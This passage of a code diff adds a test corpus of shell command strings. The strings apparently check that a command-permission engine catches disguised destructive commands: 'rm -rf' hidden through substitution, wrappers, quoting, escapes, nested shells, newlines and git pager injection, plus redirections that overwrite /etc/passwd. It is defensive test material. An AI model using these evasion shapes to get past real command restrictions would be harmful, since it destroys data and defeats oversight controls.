+        ("echo ${x:-`rm -rf /workspace/victim`}", ran("rm -rf /workspace/victim")),
+        ("echo $((1 + $(rm -rf /workspace/victim)))", ran("rm -rf /workspace/victim")),
+        ("echo $[$(rm -rf /workspace/victim)]", ran("rm -rf /workspace/victim")),
+        ("echo ${a[$(rm -rf /workspace/victim)]}", ran("rm -rf /workspace/victim")),
+        ("ls <(rm -rf /workspace/victim)", ran("rm -rf /workspace/victim")),
+        ("ls > >(rm -rf /workspace/victim)", ran("rm -rf /workspace/victim")),
+        ("X=$(rm -rf /workspace/victim) ls", ran("rm -rf /workspace/victim")),
+        ("for f in $(rm -rf /workspace/victim); do ls; done", ran("rm -rf /workspace/victim")),
+        ('ls <<< "$(rm -rf /workspace/victim)"', ran("rm -rf /workspace/victim")),
+        ('ls > "$(rm -rf /workspace/victim)"', ran("rm -rf /workspace/victim")),
+        ("echo <<EOF\n$(rm -rf /workspace/victim)\nEOF", ran("rm -rf /workspace/victim")),
+        ("echo <<EOF\n`rm -rf /workspace/victim`\nEOF", ran("rm -rf /workspace/victim")),
+        ("echo <<-EOF\n\t$(rm -rf /workspace/victim)\n\tEOF", ran("rm -rf /workspace/victim")),
+        ("ls $(echo $(rm -rf /workspace/victim))", ran("rm -rf /workspace/victim")),
+    ),
+    "subshells, groups and compound commands": (
+        ("(rm -rf /workspace/victim)", ran("rm -rf /workspace/victim")),
+        ("( ls; rm -rf /workspace/victim )", ran("rm -rf /workspace/victim")),
+        ("ls && (ls; (rm -rf /workspace/victim))", ran("rm -rf /workspace/victim")),
+        ("{ rm -rf /workspace/victim; }", ran("rm -rf /workspace/victim")),
+        ("{ ls; rm -rf /workspace/victim; }", ran("rm -rf /workspace/victim")),
+        ("if true; then rm -rf /workspace/victim; fi", ran("rm -rf /workspace/victim")),
+        ("if rm -rf /workspace/victim; then ls; fi", ran("rm -rf /workspace/victim")),
+        ("while true; do rm -rf /workspace/victim; break; done", ran("rm -rf /workspace/victim")),
+        ("until false; do rm -rf /workspace/victim; break; done", ran("rm -rf /workspace/victim")),
+        ("for i in 1 2; do rm -rf /workspace/victim; done", ran("rm -rf /workspace/victim")),
+        ("f() { rm -rf /workspace/victim; }; f", ran("rm -rf /workspace/victim")),
+        ("function f { rm -rf /workspace/victim; }; f", ran("rm -rf /workspace/victim")),
+        ("ls() { rm -rf /workspace/victim; }; ls", ran("rm -rf /workspace/victim")),
+    ),
+    "wrappers": (
+        ("env rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("env -i rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("env -u HOME rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("env A=1 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("env -- rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("env -S 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
+        ("/usr/bin/env rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("command rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("command -p rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("builtin exec rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("exec rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("exec -a innocent rm -rf /workspace/victim", ran("/usr/bin/rm -rf /workspace/victim")),
+        ("nice rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("nice -n 10 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("nice -10 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("nohup rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("time rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("time -p rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("timeout 5 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("timeout -s KILL 5 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("timeout --kill-after=1 5 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("echo /workspace/victim | xargs rm -rf", child("rm -rf /workspace/victim")),
+        ("xargs -0 rm -rf", child("rm -rf")),
+        ("xargs -n 1 rm -rf", child("rm -rf")),
+        ("stdbuf -o0 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("setsid rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        (
+            "nohup nice -n 5 timeout 10 env A=1 rm -rf /workspace/victim",
+            ran("rm -rf /workspace/victim"),
+        ),
+        ("eval rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ('eval "rm -rf /workspace/victim"', ran("rm -rf /workspace/victim")),
+        (
+            "find /workspace/victim -exec rm -rf {} +",
+            child("rm -rf /workspace/victim"),
+        ),
+        ("find /workspace/victim -execdir rm {} \\;", child("rm ./victim")),
+        ("xargs ls", child("ls")),
+    ),
+    "assignments and environment prefixes": (
+        ("X=1 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("X=1 Y=2 rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("a=1; rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+    ),
+    "quoting and backslashes": (
+        ("\\rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("r\\m -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("\\r\\m -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("'rm' -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ('"rm" -rf /workspace/victim', ran("rm -rf /workspace/victim")),
+        ("'r''m' -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ('r""m -rf /workspace/victim', ran("rm -rf /workspace/victim")),
+        ('"r"m -rf /workspace/victim', ran("rm -rf /workspace/victim")),
+        ("$'rm' -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("$'\\x72m' -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("$'\\162m' -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("$'\\u0072m' -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ('$"rm" -rf /workspace/victim', ran("rm -rf /workspace/victim")),
+        ("r\\\nm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("rm -r'f' /workspace/victim", ran("rm -rf /workspace/victim")),
+    ),
+    "programs named by path": (
+        ("/bin/rm -rf /workspace/victim", ran("/bin/rm -rf /workspace/victim")),
+        ("/usr/bin/rm -rf /workspace/victim", ran("/usr/bin/rm -rf /workspace/victim")),
+        ("/bin/../bin/rm -rf /workspace/victim", ran("/bin/../bin/rm -rf /workspace/victim")),
+        ("//bin//rm -rf /workspace/victim", ran("//bin//rm -rf /workspace/victim")),
+        ("../../bin/rm -rf /workspace/victim", ran("../../bin/rm -rf /workspace/victim")),
+        ('"/bin/rm" -rf /workspace/victim', ran("/bin/rm -rf /workspace/victim")),
+        ("/bin/r\\m -rf /workspace/victim", ran("/bin/rm -rf /workspace/victim")),
+        ("/workspace/bin/ls -la", child("/usr/bin/touch /workspace/PWNED")),
+    ),
+    "sh -c and nested scripts": (
+        ("sh -c 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
+        ('bash -c "rm -rf /workspace/victim"', ran("rm -rf /workspace/victim")),
+        ("dash -c 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
+        ("zsh -c 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
+        ("bash -ec 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
+        ("bash -o pipefail -c 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
+        ("sh -c 'ls; rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
+        ("sh -c \"sh -c 'rm -rf /workspace/victim'\"", ran("rm -rf /workspace/victim")),
+        (
+            'bash -c \'bash -c "bash -c \\"rm -rf /workspace/victim\\""\'',
+            ran("rm -rf /workspace/victim"),
+        ),
+        ("/bin/sh -c 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
+        ("sh -c 'rm -rf /workspace/victim' ls", ran("rm -rf /workspace/victim")),
+        ("bash <<< 'rm -rf /workspace/victim'", ran("rm -rf /workspace/victim")),
+        ("sh <<'EOF'\nrm -rf /workspace/victim\nEOF", ran("rm -rf /workspace/victim")),
+        ("sh <<EOF\nls\nrm -rf /workspace/victim\nEOF", ran("rm -rf /workspace/victim")),
+        ("sh -c 'eval \"rm -rf /workspace/victim\"'", ran("rm -rf /workspace/victim")),
+        ('sh -c "ls $(rm -rf /workspace/victim)"', ran("rm -rf /workspace/victim")),
+        ("echo 'rm -rf /workspace/victim' | sh", ran("rm -rf /workspace/victim")),
+        ("echo 'rm -rf /workspace/victim' | bash -s", ran("rm -rf /workspace/victim")),
+    ),
+    "newlines and comments": (
+        ("ls\nrm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls -la\n\nrm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls\r\nrm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls # just listing\nrm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls\n\trm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls &&\nrm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("ls |\nrm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("echo a\\\nb; rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+    ),
+    "redirections are writes": (
+        ("echo x > /etc/passwd", wrote("/etc/passwd")),
+        ("echo x >> /etc/passwd", wrote("/etc/passwd")),
+        ("ls 2> /etc/passwd", wrote("/etc/passwd")),
+        ("ls &> /etc/passwd", wrote("/etc/passwd")),
+        ("ls &>> /etc/passwd", wrote("/etc/passwd")),
+        ("ls >| /etc/passwd", wrote("/etc/passwd")),
+        ("ls <> /etc/passwd", wrote("/etc/passwd")),
+        ("ls >& /etc/passwd", wrote("/etc/passwd")),
+        ("ls >/etc/passwd", wrote("/etc/passwd")),
+        ("ls 3>/etc/passwd", wrote("/etc/passwd")),
+        ("ls {fd}>/etc/passwd", wrote("/etc/passwd")),
+        ("> /etc/passwd ls", wrote("/etc/passwd")),
+        ("> /etc/passwd", wrote("/etc/passwd")),
+        ("{ ls; } > /etc/passwd", wrote("/etc/passwd")),
+        ("(ls) > /etc/passwd", wrote("/etc/passwd")),
+        ('ls > "/etc/"passwd', wrote("/etc/passwd")),
+        ("echo x > /workspace/../etc/passwd", wrote("/etc/passwd")),
+    ),
+    "unicode tricks in commands": (
+        ("ls\u200b; rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+    ),
+    "programs the shell computes or expands": (
+        ("/usr/bin/r[m] -rf /workspace/victim", ran("/usr/bin/rm -rf /workspace/victim")),
+        ("{rm,-rf,/workspace/victim}", ran("rm -rf /workspace/victim")),
+        ("$(echo rm) -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("`echo rm` -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("X=rm; $X -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ("x='a[$(rm -rf /workspace/victim)]'; echo $((x))", ran("rm -rf /workspace/victim")),
+    ),
+    "syntax the engine does not model fails closed": (
+        ("case x in *) rm -rf /workspace/victim;; esac", ran("rm -rf /workspace/victim")),
+        ("coproc rm -rf /workspace/victim", ran("rm -rf /workspace/victim")),
+        ('a=(rm -rf /workspace/victim); "${a[@]}"', ran("rm -rf /workspace/victim")),
+    ),
+    "other programs are not allowed by the ls/echo/git status rules": (
+        ("trap 'rm -rf /workspace/victim' EXIT; ls", ran("rm -rf /workspace/victim")),
+        (
+            "git -c core.pager='rm -rf /workspace/victim' status",
+            ran("git -c core.pager=rm -rf /workspace/victim status"),
+        ),
+    ),
+}
+for section, shapes in BYPASS_CORPUS.items():
+    for script, effect in shapes:
+        _add(f"bypass corpus: {section}", script, effect)
